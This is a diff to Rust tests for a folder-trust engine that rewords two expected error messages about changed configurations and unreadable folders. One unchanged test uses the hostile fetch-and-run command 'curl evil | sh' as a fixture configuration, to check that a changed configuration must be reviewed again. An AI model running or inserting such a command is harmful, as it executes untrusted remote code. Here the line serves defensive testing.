@@ -386,7 +386,7 @@ async fn answer_about_a_changed_configuration_is_refused_and_asked_again() {
     assert_eq!(rig.starts.next_start().await.spec.folder_configuration, applied("curl evil | sh"));
     let work = rig.work.to_str().unwrap();
     let stale = rig.engine.set_trust(work, None, TrustDecision::Trust, "make").await.unwrap_err();
-    assert!(stale.to_string().contains("has changed; look at it again"), "{stale}");
+    assert!(stale.to_string().contains("has changed; review it again"), "{stale}");
     rig.engine.shutdown().await;
 }
 
@@ -611,7 +611,7 @@ async fn missing_folder_is_a_request_error() {
     let rig = rig().await;
     let missing = rig.work.join("missing");
     let error = rig.engine.check_trust(missing.to_str().unwrap(), None).await.unwrap_err();
-    assert!(error.to_string().contains("is not a folder that can be read"), "{error}");
+    assert!(error.to_string().contains("is not a readable folder"), "{error}");
     assert!(rig.engine.check_trust("relative", None).await.is_err());
     assert!(rig.engine.check_trust(rig.work.to_str().unwrap(), Some("nobody")).await.is_err());
     assert!(!rig.engine.remove_trust(missing.to_str().unwrap()).await.unwrap());
